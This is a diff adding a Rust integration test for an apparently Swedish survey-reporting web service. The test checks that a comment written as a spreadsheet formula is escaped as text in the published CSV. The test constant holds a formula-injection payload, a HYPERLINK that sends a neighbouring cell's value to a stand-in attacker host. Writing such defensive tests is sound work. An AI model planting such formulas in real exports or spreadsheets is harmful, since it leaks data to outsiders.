@@ -16,11 +16,14 @@ on_both_backends!(
     only_published_rounds_are_public_and_withheld_comments_never_are,
     only_coordinators_withhold_after_submission_and_a_stale_mark_is_a_conflict,
     thresholds_are_set_per_round_and_checked,
+    a_comment_written_as_a_formula_is_text_in_the_open_data_csv,
 );
 
 const SECRET: &str = "Larmkoderna till arkivet byts i mars.";
 const OPEN: &str = "Vi har utbildat all personal.";
 const DRAFT: &str = "Ett utkast som ingen har skickat in.";
+/// A comment a spreadsheet would evaluate: a link that sends the next cell away.
+const FORMULA: &str = "=HYPERLINK(\"http://angripare.example/?\"&B2;\"Läs mer\")";
 
 /// A request without any cookie or token: what the public sends.
 async fn anonymous(app: &TestApp, uri: &str) -> Reply {
@@ -379,5 +382,78 @@ async fn thresholds_are_set_per_round_and_checked(app: TestApp) {
         copy.json()["status"],
         json!({ "green": 0.9, "yellow": 0.7 }),
         "a copy keeps last year's thresholds"
+    );
+}
+
+async fn a_comment_written_as_a_formula_is_text_in_the_open_data_csv(app: TestApp) {
+    let anna = app
+        .user(
+            "anna@intraservice.se",
+            Role::Uppgiftslamnare,
+            &["intraservice"],
+        )
+        .await;
+    let sam = app.user("sam@stadsledning.se", Role::Samordnare, &[]).await;
+    submit_intraservice(&app, &anna).await;
+    let question = "trygghetsprogram/strategi-1-2";
+    let olle = app
+        .user("olle@arkiv.se", Role::Uppgiftslamnare, &["arkivnamnden"])
+        .await;
+    let response = app
+        .get("/api/v1/rounds/2025/responses/arkivnamnden", &olle)
+        .await
+        .json();
+    let answers: Vec<Value> = response["questions"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|q| {
+            json!({
+                "question": q["id"],
+                "answer": q["scale"]["options"][0]["key"],
+                "comment": if q["id"] == question { FORMULA } else { "" },
+                "version": 0,
+            })
+        })
+        .collect();
+    let saved = app
+        .call(
+            Method::PUT,
+            "/api/v1/rounds/2025/responses/arkivnamnden/answers",
+            &olle,
+            Some(json!({ "answers": answers })),
+        )
+        .await;
+    assert_eq!(saved.status, StatusCode::OK, "{}", saved.text);
+    let submitted = app
+        .call(
+            Method::POST,
+            "/api/v1/rounds/2025/responses/arkivnamnden/submit",
+            &olle,
+            None,
+        )
+        .await;
+    assert_eq!(submitted.status, StatusCode::OK, "{}", submitted.text);
+    set_state(&app, &sam, "2025", "closed").await;
+    set_state(&app, &sam, "2025", "published").await;
+
+    let csv = anonymous(&app, "/publicerat/2025/data/kommentarer.csv").await;
+    assert_eq!(csv.status, StatusCode::OK);
+    let cells: Vec<String> = ::csv::Reader::from_reader(csv.text.as_bytes())
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+        .collect();
+    assert!(
+        cells.contains(&format!("'{FORMULA}")),
+        "the formula is text: {cells:?}"
+    );
+    assert!(
+        !cells.iter().any(|c| c.starts_with('=')),
+        "no cell a spreadsheet evaluates: {cells:?}"
+    );
+    let json = anonymous(&app, "/publicerat/2025/data/sammanstallning.json").await;
+    assert!(
+        json.text.contains(&serde_json::to_string(FORMULA).unwrap()),
+        "the JSON keeps the comment as written"
     );
 }
